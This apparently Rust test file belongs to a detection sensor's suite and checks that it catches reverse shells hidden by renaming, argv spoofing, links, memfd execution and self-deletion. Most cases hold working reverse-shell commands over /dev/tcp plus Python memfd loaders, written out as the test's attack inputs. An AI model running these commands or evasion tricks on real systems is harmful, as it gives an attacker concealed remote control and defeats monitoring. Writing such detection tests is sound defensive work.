//! Shells that are not what their name says: copies, links, memory, files that are gone.

use std::{fs, os::unix::fs::symlink, path::Path};

use anyhow::{Result, ensure};
use sensor_tests::{
    finding::Finding,
    lab::{Lab, REVERSE},
    peer::Peer,
    suite::Case,
};

const WIRED: &str = "exec 5<>/dev/tcp/$H/$P; $X <&5 >&5 2>&5; true";

/// Runs the file `$X` on a connection and demands that the finding names it.
fn disguised(lab: &Lab<'_>, script: &str, file: &Path) -> Result<()> {
    lab.taken(lab.connected(script, file)?, REVERSE)
}

/// Like [`Lab::taken`] for a shell whose file has no path that /proc could confirm: `path` decides.
fn without_file(lab: &Lab<'_>, mut peer: Peer, path: impl Fn(&str) -> bool) -> Result<Finding> {
    let shell = peer.shell()?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    let first = finding.processes()?.into_iter().next();
    ensure!(
        first.is_some_and(|first| first.pid == shell.pid && first.args == shell.args && path(&first.path)),
        "the first process is not {shell:?}: {finding}"
    );
    peer.send("exit\n")?;
    lab.ended(&finding)
}

/// A shell whose commands have come before it is started, and which is gone before anybody can look at it.
fn gone_at_once(lab: &Lab<'_>, command: &str, file: &Path) -> Result<()> {
    let script = format!("exec 5<>/dev/tcp/$H/$P; read go <&5; {command} <&5 >&5 2>&5; true");
    let mut peer = lab.connected(&script, file)?;
    peer.send("go\necho uid=$((40+2))\nexit\n")?;
    peer.read_until("uid=42")?;
    let finding = lab.risen_finding(peer.ends(), REVERSE)?;
    lab.ended(&finding)?;
    Ok(())
}

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("identity::renamed_bash", &["bash"], |lab| {
            disguised(lab, WIRED, &lab.copy("bash", "kworker-flush")?)
        }),
        Case::new("identity::renamed_dash", &["dash"], |lab| {
            disguised(lab, WIRED, &lab.copy("dash", "logrotate")?)
        }),
        Case::new("identity::renamed_zsh", &["zsh"], |lab| {
            disguised(lab, WIRED, &lab.copy("zsh", "gunicorn")?)
        }),
        Case::new("identity::named_like_a_harmless_program", &["bash"], |lab| {
            disguised(lab, WIRED, &lab.copy("bash", "cat")?)
        }),
        Case::new("identity::other_name_in_argv", &["bash"], |lab| {
            let script = "exec 5<>/dev/tcp/$H/$P; exec -a '[kworker/1:2-events]' $X <&5 >&5 2>&5";
            disguised(lab, script, &lab.copy("bash", "updater")?)
        }),
        Case::new("identity::empty_name_in_argv", &["bash"], |lab| {
            let script = "exec 5<>/dev/tcp/$H/$P; exec -a '' $X --norc <&5 >&5 2>&5";
            disguised(lab, script, &lab.copy("bash", "updater")?)
        }),
        // Another hash than the installed one.
        Case::new("identity::padded_bash", &["bash"], |lab| {
            let copy = lab.copy("bash", "updater")?;
            let mut bytes = fs::read(&copy)?;
            bytes.extend_from_slice(&[0; 4096]);
            fs::write(&copy, bytes)?;
            disguised(lab, WIRED, &copy)
        }),
        Case::new("identity::hard_link", &["bash"], |lab| {
            let link = lab.path("metrics");
            fs::hard_link(lab.copy("bash", "original")?, &link)?;
            disguised(lab, WIRED, &link)
        }),
        Case::new("identity::symbolic_link", &["bash"], |lab| {
            let link = lab.path("metrics");
            symlink("/bin/bash", &link)?;
            disguised(lab, WIRED, &link)
        }),
        Case::new("identity::renamed_busybox", &["busybox"], |lab| {
            let script = "exec 5<>/dev/tcp/$H/$P; exec -a sh $X <&5 >&5 2>&5";
            disguised(lab, script, &lab.copy("busybox", "updater")?)
        }),
        Case::new("identity::busybox_applet_as_argument", &["busybox"], |lab| {
            let script = "exec 5<>/dev/tcp/$H/$P; exec -a busybox $X sh -i <&5 >&5 2>&5";
            disguised(lab, script, &lab.copy("busybox", "updater")?)
        }),
        Case::new("identity::odd_path", &["bash"], |lab| {
            let dir = lab.path("with space\nand\tmore \u{1b}[31m é");
            fs::create_dir(&dir)?;
            let copy = dir.join("ba sh");
            fs::copy("/bin/bash", &copy)?;
            disguised(lab, "exec 5<>/dev/tcp/$H/$P; \"$X\" <&5 >&5 2>&5; true", &copy)
        }),
        Case::new("identity::deep_path", &["bash"], |lab| {
            // As long as a path may be, near enough.
            let mut dir = lab.path("deep");
            while dir.as_os_str().len() < 3_800 {
                dir.push("a-directory-with-a-long-name-0123456789");
            }
            fs::create_dir_all(&dir)?;
            let copy = dir.join("sh");
            fs::copy("/bin/dash", &copy)?;
            let peer = lab.connected(WIRED, &copy)?;
            // Too long to be read as a whole is allowed, if the finding says so.
            let finding = without_file(lab, peer, |path| {
                path.ends_with("/a-directory-with-a-long-name-0123456789/sh")
            })?;
            let whole = finding
                .processes()?
                .first()
                .is_some_and(|first| first.path == copy.to_string_lossy());
            let truncated = finding
                .property("execution")
                .and_then(|execution| execution.get("pathTruncated"));
            ensure!(
                whole || truncated == Some(&true.into()),
                "a part of the path is missing: {finding}"
            );
            Ok(())
        }),
        Case::new("identity::memfd_execveat", &["gcc"], |lab| {
            let peer = lab.connected(
                "exec $X $H $P kworker /bin/bash --norc",
                &lab.programs.c("memfd.c", &[])?,
            )?;
            without_file(lab, peer, |path| path.contains("memfd:kworker"))?;
            Ok(())
        }),
        Case::new("identity::memfd_through_proc", &["python3"], |lab| {
            let script = r#"exec /usr/bin/python3 -c 'import os,socket
m=os.memfd_create("jit-cache",0); os.write(m,open("/bin/dash","rb").read())
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; os.execv("/proc/self/fd/%d" % m,["worker"])'"#;
            let peer = lab.connected(script, Path::new("/"))?;
            without_file(lab, peer, |path| path.contains("memfd:jit-cache"))?;
            Ok(())
        }),
        Case::new("identity::deleted_before_exec", &["gcc", "bash"], |lab| {
            let copy = lab.copy("bash", "once")?;
            let launcher = lab.programs.c("deleted.c", &[])?;
            let script = format!(
                "exec 5<>/dev/tcp/$H/$P; exec {} $X --norc <&5 >&5 2>&5",
                launcher.display()
            );
            let peer = lab.connected(&script, &copy)?;
            without_file(lab, peer, |path| path == copy.to_string_lossy())?;
            ensure!(!copy.exists(), "the file is still there");
            Ok(())
        }),
        Case::new("identity::renamed_and_gone_at_once", &["dash"], |lab| {
            let copy = lab.copy("dash", "updater")?;
            for _ in 0..20 {
                gone_at_once(lab, "$X", &copy)?;
            }
            Ok(())
        }),
        Case::new("identity::memfd_and_gone_at_once", &["gcc"], |lab| {
            let script = r#"/usr/bin/python3 -c 'import os
m=os.memfd_create("jit-cache",0); os.write(m,open("/bin/dash","rb").read()); os.execv("/proc/self/fd/%d" % m,["x"])'"#;
            for _ in 0..20 {
                gone_at_once(lab, script, Path::new("/"))?;
            }
            Ok(())
        }),
        // Wrappers come first on the connection; what counts is the shell that they start.
        Case::new(
            "identity::started_by_wrappers",
            &["env", "nice", "timeout", "setsid"],
            |lab| {
                let script = "exec 5<>/dev/tcp/$H/$P; exec env -i nice -n 1 timeout 600 setsid -w $X <&5 >&5 2>&5";
                lab.reverse_risen(script, &lab.copy("bash", "updater")?)
            },
        ),
        Case::new("identity::deletes_itself", &["bash"], |lab| {
            let copy = lab.copy("bash", "once")?;
            let mut peer = lab.connected(WIRED, &copy)?;
            peer.send(format!("rm {}\n", copy.display()))?;
            without_file(lab, peer, |path| path == copy.to_string_lossy())?;
            ensure!(!copy.exists(), "the file is still there");
            Ok(())
        }),
    ]
}
